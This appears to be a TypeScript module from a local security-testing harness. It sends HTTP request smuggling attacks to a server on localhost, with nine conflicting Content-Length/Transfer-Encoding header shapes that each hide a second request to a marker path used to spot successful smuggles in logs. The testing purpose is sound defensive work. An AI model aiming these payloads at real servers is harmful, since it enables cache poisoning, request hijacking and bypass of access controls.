import { connect } from 'node:net';
import { addressOf, type Attack } from './attack.ts';

const METHODS = ['GET', 'HEAD', 'OPTIONS', 'DELETE', 'POST'];
/** This path is only requested by smuggled requests: in a log it means that one succeeded. */
export const HIDDEN_PATH = '/api/hidden-in-a-body';
const HIDDEN = `GET ${HIDDEN_PATH} HTTP/1.1\r\nHost: nosh.localhost\r\n\r\n`;
const length = `Content-Length: ${HIDDEN.length}`;
const chunks = `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;

/** Header lines and body of requests whose end two servers may see differently. */
const shapes: readonly (readonly [lines: readonly string[], body: string])[] = [
  [['Transfer-Encoding: chunked'], chunks],
  [[length, 'Connection: content-length'], HIDDEN],
  [['Transfer-Encoding: chunked', 'Connection: transfer-encoding'], chunks],
  [[length, 'Transfer-Encoding: chunked'], chunks],
  [[length, 'Connection: keep-alive, content-length, transfer-encoding'], HIDDEN],
  [[length, 'Content-Length: 0'], HIDDEN],
  [['Transfer-Encoding:\r\n chunked'], chunks],
  [['Transfer-Encoding: xchunked', length], HIDDEN],
  [[`${length}\n`], HIDDEN],
];

/** Requests with a contradictory length, each with another request inside. */
export const smuggling: Attack = ({ target, random }) =>
  new Promise<void>((done) => {
    const method = random.pick(METHODS);
    const [lines, body] = random.pick(shapes);
    const socket = connect({ host: '127.0.0.1', port: target.port, localAddress: addressOf(random) });
    const end = () => {
      socket.destroy();
      done();
    };
    socket.setTimeout(2_000, end);
    socket.on('error', end);
    socket.on('close', end);
    socket.on('data', end);
    socket.write([`${method} /api/CSRF HTTP/1.1`, 'Host: nosh.localhost', ...lines, '', body].join('\r\n'));
  });
